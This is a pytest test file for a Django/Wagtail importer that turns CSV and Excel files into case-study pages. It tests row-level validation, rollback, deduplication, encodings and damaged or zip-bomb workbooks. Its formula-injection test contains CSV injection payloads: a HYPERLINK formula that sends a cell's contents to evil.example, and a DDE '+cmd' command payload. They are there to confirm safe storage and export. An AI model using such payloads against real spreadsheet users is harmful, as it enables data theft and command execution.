"""Checking and importing: reports by row and column, all or nothing, no duplicates."""

import codecs

import pytest
from openpyxl import Workbook
from wagtail.models import Revision

from casestudies.models import CaseStudyPage
from imports.models import ImportedCaseStudy
from imports.reading import FileProblem, open_table
from imports.services import import_check, import_run
from tests.imports.conftest import HEADERS, csv_bytes, damaged_xlsx, row

pytestmark = pytest.mark.django_db


def check(world, path, publish=False):
    return import_check(open_table(path), community=world["community"], publish=publish)


def run(world, path, publish=False, user=None):
    return import_run(
        open_table(path),
        community=world["community"],
        user=user or world["facilitator"],
        publish=publish,
        file_name=path.name,
    )


def problems(report):
    return [(p.row, p.column, p.message) for p in report.problems]


def test_a_clean_file_checks_and_writes_nothing(world, write):
    report = check(world, write(csv_bytes([row(1), row(2)])))
    assert report.ok and report.rows == 2 and report.new == 2
    assert not CaseStudyPage.objects.exists()


def test_problems_are_reported_by_row_number_and_column(world, write):
    path = write(
        csv_bytes(
            [
                row(1),
                row(2, Title="", Stage="someday"),
                row(3, **{"Start date": "next spring", "Lesson 1 kind": "meh"}),
            ]
        )
    )
    report = check(world, path)
    assert not report.ok
    found = problems(report)
    assert (3, "Title", "Enter the title.") in found
    assert any(r == 3 and c == "Stage" for r, c, _ in found)
    assert any(r == 4 and c == "Start date" for r, c, _ in found)
    assert any(r == 4 and c == "Lesson 1 kind" for r, c, _ in found)
    assert not any(r == 2 for r, _, _ in found)


def test_unmatched_names_are_listed_and_left_out(world, write):
    path = write(
        csv_bytes(
            [
                row(1, **{"Lead organisation": "  northmoor county COUNCIL "}),
                row(2, **{"Partner organisations": "Nowhere Council; Northmoor County Council"}),
                row(3, Themes="open data; Basket weaving", **{"Contact email": "x@example.org"}),
            ]
        )
    )
    report = check(world, path)
    assert report.ok
    assert report.unmatched_list() == [
        ("contact (not a member of this community)", "x@example.org", [4]),
        ("organisation", "Nowhere Council", [3]),
        ("theme", "Basket weaving", [4]),
    ]
    result = run(world, path)
    assert result.ok
    page = CaseStudyPage.objects.get(title="Imported project 3")
    assert [t.name for t in page.themes.all()] == ["Open data"]
    assert not page.contacts.exists()
    first = CaseStudyPage.objects.get(title="Imported project 1")
    assert first.lead_organisation.name == "Northmoor County Council"


def test_the_import_creates_drafts_owned_by_the_importer(world, write):
    report = run(world, write(csv_bytes([row(1, **{"Contact email": world["member"].email})])))
    assert report.ok and [o["action"] for o in report.outcome] == ["created"]
    page = CaseStudyPage.objects.get()
    assert not page.live and page.owner == world["facilitator"]
    assert page.get_parent().pk == world["community"].pk
    assert Revision.page_revisions.filter(object_id=str(page.pk)).count() == 1
    draft = page.get_latest_revision_as_object()
    assert [lesson.text for lesson in draft.lessons.all()] == ["Lesson from project 1."]
    assert list(page.contacts.all()) == [world["member"]]
    assert page.background == "<p>The problem.</p>"
    assert page.change_note == "Imported from case-studies.csv"


def test_publishing_needs_the_lesson_rule_and_sections(world, write):
    path = write(
        csv_bytes([row(1, **{"Lesson 1 kind": "What went well", "Background": ""}), row(2)])
    )
    report = run(world, path, publish=True)
    assert not report.ok
    assert {(r, c) for r, c, _ in problems(report)} == {(2, "Lessons"), (2, "Background")}
    assert not CaseStudyPage.objects.exists()
    assert run(world, path, publish=False).ok  # drafts need neither


def test_publishing_makes_live_pages_and_indexes_them_once(world, write, monkeypatch):
    from search import indexing

    subtrees, pages = [], []
    monkeypatch.setattr(indexing, "schedule_subtree", subtrees.append)
    original = indexing.schedule_pages
    monkeypatch.setattr(indexing, "schedule_pages", lambda ids: pages.append(ids) or original(ids))
    report = run(world, write(csv_bytes([row(1), row(2)])), publish=True)
    assert report.ok
    assert CaseStudyPage.objects.live().count() == 2
    assert subtrees == [world["community"].pk]


def test_published_imports_are_in_the_search_index_and_drafts_are_not(world, write):
    from tests.search.test_indexing import keys_of

    assert run(world, write(csv_bytes([row(1)]))).ok
    draft = CaseStudyPage.objects.get()
    assert not keys_of(draft)
    assert run(world, write(csv_bytes([row(2)]), "second.csv"), publish=True).ok
    published = CaseStudyPage.objects.get(title="Imported project 2")
    assert f"page:{published.pk}" in keys_of(published)
    assert not keys_of(draft)


def test_one_bad_row_imports_nothing(world, write):
    rows = [row(n) for n in range(1, 30)] + [row(30, Summary="")]
    report = run(world, write(csv_bytes(rows)))
    assert not report.ok and report.problem_count == 1
    assert not CaseStudyPage.objects.exists() and not ImportedCaseStudy.objects.exists()


def test_a_failure_during_the_import_undoes_every_row(world, write, monkeypatch):
    from imports import services

    calls = []
    real = services._import_record

    def fail_on_third(record, **kwargs):
        calls.append(record.row)
        if len(calls) == 3:
            raise RuntimeError("disk full")
        return real(record, **kwargs)

    monkeypatch.setattr(services, "_import_record", fail_on_third)
    with pytest.raises(RuntimeError):
        run(world, write(csv_bytes([row(n) for n in range(1, 5)])))
    assert (
        not CaseStudyPage.objects.exists()
        and not Revision.objects.filter(content_type__model="casestudypage").exists()
    )


def test_a_row_the_page_refuses_midway_undoes_every_row_and_is_named(world, write, monkeypatch):
    """A page saved meanwhile at the address a row was to have: Wagtail refuses the third
    page, and the report names that row instead of failing with an error page."""
    from imports import services
    from tests import factories

    factories.make_case_study(world["community"], title="Taken", slug="taken-meanwhile")
    real = services._unique_slug
    monkeypatch.setattr(
        services,
        "_unique_slug",
        lambda title, taken: "taken-meanwhile" if title.endswith(" 3") else real(title, taken),
    )
    report = run(world, write(csv_bytes([row(n) for n in range(1, 5)])))
    assert not report.ok and not report.outcome
    assert report.file_problem.startswith("Row 4 could not be saved, so nothing has been")
    assert "'taken-meanwhile' is already in use" in report.file_problem
    assert CaseStudyPage.objects.count() == 1 and not ImportedCaseStudy.objects.exists()


def test_a_database_failure_midway_is_reported_and_undoes_every_row(world, write, monkeypatch):
    from django.db import OperationalError

    from imports import services

    real, calls = services._import_record, []

    def fail_on_third(record, **kwargs):
        calls.append(record.row)
        if len(calls) == 3:
            raise OperationalError("could not serialize access")
        return real(record, **kwargs)

    monkeypatch.setattr(services, "_import_record", fail_on_third)
    report = run(world, write(csv_bytes([row(n) for n in range(1, 5)])))
    assert report.file_problem.startswith("Row 4 could not be saved, so nothing has been")
    assert not CaseStudyPage.objects.exists() and not ImportedCaseStudy.objects.exists()
    assert not Revision.objects.filter(content_type__model="casestudypage").exists()


def test_running_the_same_file_again_creates_no_duplicates(world, write):
    path = write(csv_bytes([row(1), row(2)]))
    assert run(world, path).ok
    again = run(world, path)
    assert [o["action"] for o in again.outcome] == ["unchanged", "unchanged"]
    assert CaseStudyPage.objects.count() == 2
    assert check(world, path).unchanged == 2


def test_a_changed_row_updates_its_page_with_a_new_revision(world, write):
    assert run(world, write(csv_bytes([row(1), row(2)]))).ok
    page = CaseStudyPage.objects.get(title="Imported project 1")
    revisions = Revision.page_revisions.filter(object_id=str(page.pk)).count()
    changed = write(csv_bytes([row(1, Title="Renamed project"), row(2)]))
    report = run(world, changed)
    assert [o["action"] for o in report.outcome] == ["updated", "unchanged"]
    assert CaseStudyPage.objects.count() == 2
    page.refresh_from_db()
    assert Revision.page_revisions.filter(object_id=str(page.pk)).count() == revisions + 1
    assert page.get_latest_revision_as_object().title == "Renamed project"


def test_publishing_an_unchanged_draft_publishes_it(world, write):
    path = write(csv_bytes([row(1)]))
    assert run(world, path).ok
    report = run(world, path, publish=True)
    assert [o["action"] for o in report.outcome] == ["updated"]
    assert CaseStudyPage.objects.get().live


def test_a_deleted_page_is_created_again(world, write):
    path = write(csv_bytes([row(1)]))
    assert run(world, path).ok
    CaseStudyPage.objects.get().delete()
    report = run(world, path)
    assert [o["action"] for o in report.outcome] == ["created"]


def test_a_page_moved_to_another_community_is_left_alone(world, write):
    from tests import factories

    path = write(csv_bytes([row(1)]))
    assert run(world, path).ok
    moved = CaseStudyPage.objects.get()
    elsewhere = factories.make_community("Elsewhere")
    moved.move(elsewhere, pos="last-child")
    changed = write(csv_bytes([row(1, Title="Renamed project")]))
    report = run(world, changed)
    assert [o["action"] for o in report.outcome] == ["created"]
    moved.refresh_from_db()
    assert moved.get_latest_revision_as_object().title == "Imported project 1"
    record = ImportedCaseStudy.objects.get(community=world["community"])
    assert record.page_id != moved.pk and record.page.title == "Renamed project"


def test_duplicate_external_ids_in_one_file_are_refused(world, write):
    path = write(csv_bytes([row(1), row(2, **{"External id": "ext-1"})]))
    report = run(world, path)
    assert problems(report) == [(3, "External id", "“ext-1” is also the external id of row 2.")]
    assert not CaseStudyPage.objects.exists()


def test_titles_make_unique_slugs(world, write):
    path = write(csv_bytes([row(1, Title="Same"), row(2, Title="Same")]))
    assert run(world, path).ok
    assert sorted(CaseStudyPage.objects.values_list("slug", flat=True)) == ["same", "same-2"]


# Encodings ---------------------------------------------------------------------------------

NAME = "Café in Ynys Môn – “quoted”"


@pytest.mark.parametrize(
    ("prefix", "encoding", "read_as"),
    [(b"", "utf-8", "UTF-8"), (codecs.BOM_UTF8, "utf-8", "UTF-8"), (b"", "cp1252", "Windows-1252")],
)
def test_encodings_are_detected(world, write, prefix, encoding, read_as):
    title = NAME if encoding == "utf-8" else "Café – “quoted”"
    path = write(prefix + csv_bytes([row(1, Title=title)], encoding=encoding))
    table = open_table(path)
    assert table.encoding == read_as
    assert table.headers[0] == "External id"  # no byte order mark in the heading
    assert run(world, path).ok
    assert CaseStudyPage.objects.get().title == title


def test_text_in_no_known_encoding_is_refused(write):
    path = write(csv_bytes([row(1)]) + b"\x81\x8d\x90 broken")
    with pytest.raises(FileProblem, match="UTF-8 or Windows-1252"):
        open_table(path)


def test_utf16_is_refused_with_advice(write):
    path = write(codecs.BOM_UTF16_LE + csv_bytes([row(1)]).decode().encode("utf-16-le"))
    with pytest.raises(FileProblem, match="UTF-16"):
        open_table(path)


# Bad files ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"", "empty.csv", "empty"),
        (b"\n\n", "blank.csv", "no column headings"),
        (b"PK\x03\x04 not really a zip", "broken.xlsx", "not an Excel workbook"),
        (b"\x00\x01\x02binary", "binary.csv", "not a text file"),
        (b"<html></html>", "page.html", "must be a CSV file"),
    ],
)
def test_malformed_files_are_refused(write, content, name, message):
    with pytest.raises(FileProblem, match=message):
        open_table(write(content, name))


def test_wrong_headers_are_reported_and_nothing_is_imported(world, write):
    headers = ["Ref", "Title", "Sumary"]
    path = write(csv_bytes([{"Ref": "1", "Title": "x", "Sumary": "y"}], headers=headers))
    report = run(world, path)
    assert "“Ref” is not a column" in report.file_problem
    assert "“Sumary” is not a column" in report.file_problem
    assert "missing: External id, Summary" in report.file_problem
    assert not CaseStudyPage.objects.exists()


def test_a_row_with_more_cells_than_headings_is_refused(world, write):
    content = csv_bytes([row(1)]) + b"EXT-2,T,S" + b",x" * (len(HEADERS) + 2) + b"\n"
    report = run(world, write(content))
    assert "Row 3 has more cells" in report.file_problem
    assert not CaseStudyPage.objects.exists()


def test_headings_ignore_case_spaces_and_underscores(world, write):
    headers = [h.upper().replace(" ", "_") for h in HEADERS]
    item = {h.upper().replace(" ", "_"): v for h, v in row(1).items()}
    assert run(world, write(csv_bytes([item], headers=headers))).ok


def test_blank_lines_are_skipped_and_rows_keep_their_numbers(world, write):
    content = csv_bytes([row(1)]) + b"\n,,,\n" + csv_bytes([row(2, Title="")]).split(b"\n", 1)[1]
    report = check(world, write(content))
    assert problems(report) == [(5, "Title", "Enter the title.")]


# Formula injection -------------------------------------------------------------------------


def test_formulas_are_stored_as_text_and_exported_safely(world, write, client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = write(
        csv_bytes([row(1, Title=formula, Summary="+cmd|' /C calc'!A0", Background="@SUM(1)")])
    )
    assert run(world, path, publish=True).ok
    page = CaseStudyPage.objects.get()
    assert page.title == formula and page.summary.startswith("+cmd")
    assert page.background == "<p>@SUM(1)</p>"

    client.force_login(world["facilitator"])
    response = client.get("/case-studies/export.csv")
    lines = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in lines and "'+cmd" in lines


def test_values_exported_by_the_site_are_read_back_without_the_quote(world, write):
    assert run(world, write(csv_bytes([row(1, Title="'=1+1")]))).ok
    assert CaseStudyPage.objects.get().title == "=1+1"


# Excel -------------------------------------------------------------------------------------


def xlsx(tmp_path, rows, headers=HEADERS, name="case-studies.xlsx"):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for item in rows:
        sheet.append([item.get(h, "") for h in headers])
    path = tmp_path / name
    workbook.save(path)
    return path


def test_an_excel_workbook_imports_with_dates_and_formulas_as_text(world, tmp_path):
    import datetime as dt

    path = xlsx(
        tmp_path,
        [row(1, **{"Start date": dt.datetime(2023, 5, 17)}), row(2, Title="=1+1")],
    )
    assert run(world, path).ok
    assert CaseStudyPage.objects.get(title="Imported project 1").start_date == dt.date(2023, 5, 17)
    assert CaseStudyPage.objects.filter(title="=1+1").exists()


def test_an_excel_workbook_reports_rows_and_columns(world, tmp_path):
    report = check(world, xlsx(tmp_path, [row(1), row(2, Summary="")]))
    assert problems(report) == [(3, "Summary", "Enter the summary.")]


def test_the_example_file_checks_cleanly_against_the_demo_names(world):
    from django.conf import settings

    from communities.models import Organisation
    from tests import factories

    for name in ("Aldbridge District Council", "Fenmarsh District Council"):
        Organisation.objects.get_or_create(name=name, defaults={"slug": name.lower()[:20]})
    sam = factories.UserFactory(email="sam.whitfield@northmoor.gov.uk")
    factories.add_member(world["community"], sam)
    path = settings.BASE_DIR / "cop" / "demo" / "import-example.csv"
    report = check(world, path, publish=True)
    assert report.ok and report.rows == 2 and not report.unmatched, report.unmatched


def test_a_workbook_that_unpacks_to_far_more_than_it_holds_is_refused(write, tmp_path):
    import zipfile

    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"\0" * (50 * 1024 * 1024))
    with pytest.raises(FileProblem, match="unpacks to far more"):
        open_table(path)


@pytest.mark.parametrize(
    ("damage", "where"),
    [
        ({"keep": 0.3}, "header"),  # cut inside the header row
        ({"rows": 300, "keep": 0.8}, "rows"),  # the header reads, row 200 or so does not
        ({"drop_sheet": True}, "header"),
    ],
)
def test_a_damaged_workbook_is_refused_clearly_and_nothing_is_imported(world, write, damage, where):
    path = write(damaged_xlsx(**damage), "damaged.xlsx")
    if where == "header":
        with pytest.raises(FileProblem, match="may be damaged"):
            open_table(path)
        return
    assert open_table(path).headers == HEADERS
    assert "may be damaged" in check(world, path).file_problem
    report = run(world, path)
    assert "may be damaged" in report.file_problem and not report.outcome
    assert not CaseStudyPage.objects.exists() and not ImportedCaseStudy.objects.exists()


def test_a_workbook_with_no_rows_has_no_headings(tmp_path):
    path = xlsx(tmp_path, [], headers=[])
    with pytest.raises(FileProblem, match="no column headings"):
        open_table(path)
